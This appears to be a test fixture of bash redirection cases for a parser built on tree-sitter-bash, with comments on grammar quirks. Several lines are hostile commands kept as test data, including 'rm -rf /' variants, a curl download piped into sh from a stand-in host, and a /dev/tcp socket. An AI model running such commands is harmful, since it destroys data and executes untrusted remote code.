# Redirections. Grammar quirk: words after a redirect target are nested inside the
# file_redirect as more destinations; bash passes them to the command.
#--- output, append, stderr, duplication
rm -rf / > out.log 2>&1 >> all.log
#--- words after the target are arguments (sudo runs rm here)
sudo >/dev/null rm -rf /
#--- a redirect before the command name
> out.txt echo hi
#--- &> and >|, and <> which tree-sitter-bash cannot parse (ERROR)
ls &> all.log; ls >| f; cat 0<> f
#--- input from a process substitution
while read l; do echo "$l"; done < <(ls)
#--- a redirect on a compound command
{ ls; pwd; } > out.txt
#--- fd with read-write to /dev/tcp (tree-sitter-bash cannot parse `3<>`)
exec 3<>/dev/tcp/example.com/80
#--- output into a process substitution is a pipe: the shell inside reads echo's text
echo 'rm -rf /' > >(sh); sh < <(echo 'rm -rf /'); curl -so >(sh) https://x.example
#--- a here-string after a subshell, a group or a case (the grammar reads an ERROR `<<` then `<`)
( sh ) <<< 'rm -rf /'; { cat; } 3<<< x; case a in a) sh;; esac <<<'id'; ( sh ) << < x
